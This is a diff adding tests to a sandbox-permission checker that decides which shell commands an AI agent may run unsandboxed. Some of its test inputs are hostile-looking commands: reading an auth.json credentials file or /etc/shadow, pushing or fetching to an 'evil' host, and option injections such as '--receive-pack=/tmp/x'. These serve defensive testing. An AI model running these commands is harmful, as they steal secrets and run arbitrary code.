@@ -161,8 +161,11 @@ Deno.test("decide() leaves the sandbox only when a rule allows every part", () =
     const script of [
       "npm test",
       "npm a && git push",
-      "cd x && CI=1 timeout 5 npm test",
+      "cd /ws && cd . && CI=1 timeout 5 npm test",
       "npm <<'E'\nE",
+      "npm test 2>&1 | tail -20",
+      "npm test >/dev/null; echo done",
+      "# first\nset -e\ncd /ws\ntime npm test \\\n  --x\ngit push | grep -v '^remote'",
     ]
   ) {
     assert.equal(verdict(command(script), { rules }), "run!", script);
@@ -178,6 +181,20 @@ Deno.test("decide() leaves the sandbox only when a rule allows every part", () =
   for (
     const script of [
       "npm test && ls",
+      "npm test; cat /home/u/.codex/auth.json",
+      "npm test | tee x",
+      "npm test | grep -f /etc/shadow",
+      "cd x && npm test",
+      "cd .. && npm test",
+      "cd x; npm test",
+      "npm --prefix /other test",
+      "npm test --script-shell=/tmp/x",
+      "git push --receive-pack=/tmp/x origin",
+      "git push --receive-p /tmp/x",
+      "git push --exec /tmp/x",
+      "git push /other main",
+      "git push ext::sh origin",
+      "git push git@evil:x main",
       "npm test; cd x",
       "npm test > x",
       "npm $(id)",
@@ -196,6 +213,98 @@ Deno.test("decide() leaves the sandbox only when a rule allows every part", () =
   );
   assert.equal(verdict(command(["bash", "-c", "npm", "x"]), { rules }), "run");
   assert.equal(verdict(command([]), { rules }), "run");
+});
+
+Deno.test("decide() lets a rule hold in the workspace alone, and for no argument that leads out", () => {
+  const rules = rulesOf(
+    ["git", "make", "npm", "cargo", "docker"].map((name) =>
+      `prefix_rule(pattern=["${name}"])\n`
+    ).join(""),
+  );
+  const cases: Record<string, string> = {
+    "git commit -am x": "run!",
+    "git push -u origin main": "run!",
+    "git -C /other commit": "run",
+    "git -C/other commit": "run",
+    "git --git-dir=/x commit": "run",
+    "git --git-d /x commit": "run",
+    "git --work-tree /x commit": "run",
+    "git -c core.sshCommand=x fetch": "run",
+    "git -ccore.pager=x log": "run",
+    "git --config-env=a=b fetch": "run",
+    "git fetch --upload-pack=x": "run",
+    "git fetch --upload x": "run",
+    "git fetch https://evil/x": "run",
+    "git clone -u x y": "run",
+    "git rebase -x evil HEAD~1": "run",
+    "git grep -Oevil x": "run",
+    "git diff --ext-diff": "run",
+    "git log --output=x": "run",
+    "make -C /other": "run",
+    "make -sC /other": "run",
+    "make -j 8": "run!",
+    "make SHELL=/tmp/x": "run",
+    "make --eval=x": "run",
+    "npm test": "run!",
+    "npm --prefix=/x test": "run",
+    "npm install -g x": "run",
+    "cargo test --manifest-path /x": "run",
+    "cargo test --config x": "run",
+    "cargo test --lib": "run!",
+    "docker -H tcp://x ps": "run",
+  };
+  for (const [script, expected] of Object.entries(cases)) {
+    assert.equal(verdict(command(script), { rules }), expected, script);
+    const elsewhere = command(script, { cwd: "/ws/sub" });
+    assert.equal(verdict(elsewhere, { rules }), "run", script);
+  }
+  // What the rule itself names is covered.
+  const named = rulesOf(`prefix_rule(pattern=["git", "-C", "/other", "push"])`);
+  assert.equal(
+    verdict(command("git -C /other push"), { rules: named }),
+    "run!",
+  );
+});
+
+Deno.test("decide() keeps the sandbox where a rule opens a part of it", () => {
+  const rules = rulesOf(
+    `prefix_rule(pattern=["npm", "ci"], sandbox=["network"])
+prefix_rule(pattern=["cargo"], sandbox=["network", "~/.cargo/registry"])
+prefix_rule(pattern=["just"], sandbox=[])
+prefix_rule(pattern=["git", "push"])`,
+  );
+  const opened = (
+    script: string,
+    more: Partial<DecideInput> = {},
+  ): unknown => {
+    const result = decide(
+      input(command(script, { escalated: more.approval !== "untrusted" }), {
+        rules,
+        ...more,
+      }),
+    );
+    return result.type === "run"
+      ? [result.sandboxed, result.opens]
+      : result.type;
+  };
+  assert.deepEqual(opened("npm ci"), [true, ["network"]]);
+  assert.deepEqual(opened("npm ci 2>&1 | tail -5; ls -l"), [true, ["network"]]);
+  assert.deepEqual(opened("cd pkg && npm ci"), [true, ["network"]]);
+  assert.deepEqual(opened("npm ci && cargo build"), [true, [
+    "network",
+    "/home/u/.cargo/registry",
+  ]]);
+  assert.deepEqual(opened("just x", { approval: "untrusted" }), [
+    true,
+    undefined,
+  ]);
+  assert.deepEqual(opened("npm ci && git push"), "ask");
+  assert.deepEqual(opened("cd /other && npm ci"), "ask");
+  assert.deepEqual(opened("npm ci", { sandbox: FULL }), [false, undefined]);
+  assert.deepEqual(opened("npm ci", { sandbox: READ_ONLY }), [true, [
+    "network",
+  ]]);
+  assert.deepEqual(opened("cargo build", { sandbox: READ_ONLY }), "ask");
 });
 
 Deno.test("decide() obeys asking and forbidding rules, wherever they are hidden", () => {
@@ -427,14 +536,14 @@ Deno.test("judgeCommand() says of each part what is known about it", () => {
   const classified = classifyCommand(
     ["bash", "-lc", "ls | CI=1 npm x && rm -f y $(git z)"],
     "/ws",
-    rules,
+    { rules, workspace: "/ws" },
   );
   assert.equal(classified.kind, "opaque");
   assert.equal(classified.hidden?.decision, "prompt");
   const plain = classifyCommand(
     ["bash", "-lc", "ls | CI=1 npm x && rm -f y"],
     "/ws",
-    rules,
+    { rules, workspace: "/ws" },
   );
   assert.deepEqual(
     plain.segments.map((
